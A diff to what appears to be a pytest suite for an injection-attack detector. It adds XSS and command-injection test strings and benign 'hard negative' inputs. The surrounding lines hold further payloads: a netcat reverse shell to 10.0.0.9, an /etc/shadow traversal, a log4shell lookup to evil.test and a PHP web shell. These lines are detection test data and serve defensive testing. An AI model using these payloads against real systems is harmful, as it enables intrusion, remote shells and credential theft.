@@ -55,6 +55,8 @@ ATTACKS = [
     ),
     pytest.param("xss", "{{constructor.constructor('go()')()}}", id="xss-angular-template"),
     pytest.param("xss", "<object data='data:text/html;base64,PHNjcmlwdD4='>", id="xss-data-url"),
+    pytest.param("xss", "<svg><animate onbegin=go() attributeName=x>", id="xss-svg-animate"),
+    pytest.param("xss", "top['con'+'firm'](1)", id="xss-indirect-call"),
     # -- path traversal ----------------------------------------------------------
     pytest.param("path_traversal", "../../../../etc/shadow", id="pt-dotdot-shadow"),
     pytest.param("path_traversal", "..%252f..%252f..%252fetc%252fgroup", id="pt-double-encoded"),
@@ -76,6 +78,10 @@ ATTACKS = [
     pytest.param("cmdi", "() { :; }; /bin/bash -c 'ping -c 3 10.0.0.9'", id="cmdi-shellshock"),
     pytest.param("cmdi", "%0Auname%20-a", id="cmdi-newline"),
     pytest.param("cmdi", "x' || sleep 9 ||'", id="cmdi-quote-break"),
+    pytest.param("cmdi", "uname -a", id="cmdi-command-line"),
+    pytest.param("cmdi", "x; nohup nc -e /bin/sh 10.0.0.9 4444", id="cmdi-nohup-reverse-shell"),
+    pytest.param("cmdi", "{cat,/etc/hostname}", id="cmdi-brace-expansion"),
+    pytest.param("cmdi", "c$@at /etc/hostname", id="cmdi-variable-split"),
     # -- code injection --------------------------------------------------------------
     pytest.param("code_injection", "<?php passthru($_GET['c']); ?>", id="code-php"),
     pytest.param("code_injection", "${jndi:ldap://evil.test:1389/o}", id="code-log4shell"),
@@ -139,6 +145,18 @@ HARD_NEGATIVES = [
     pytest.param(
         "The system (as a whole) must include the range (1 to 5)", id="prose-php-function-words"
     ),
+    pytest.param(
+        "5' and 6' shelves",
+        id="feet-and-inches",
+        marks=pytest.mark.xfail(
+            strict=True, reason="known limitation: reads like x' and 1 (quote, logic, number)"
+        ),
+    ),
+    pytest.param("script-src 'self'; style-src 'self' https://cdn.example", id="csp-policy"),
+    pytest.param("v_id:0178$_sn:1$_ss:0$_st:1719849600$_pn:2", id="analytics-cookie"),
+    pytest.param("Price: $5 (tax included)", id="price-parenthesis"),
+    pytest.param("Use `true` or `false`; then call super().__init__()", id="docs-code-words"),
+    pytest.param("pip install starlette && uvicorn app:app", id="docs-shell-line"),
     pytest.param("caf\u00e9 \uff21\uff22\uff23 \u6771\u4eac", id="unicode"),
 ]
 
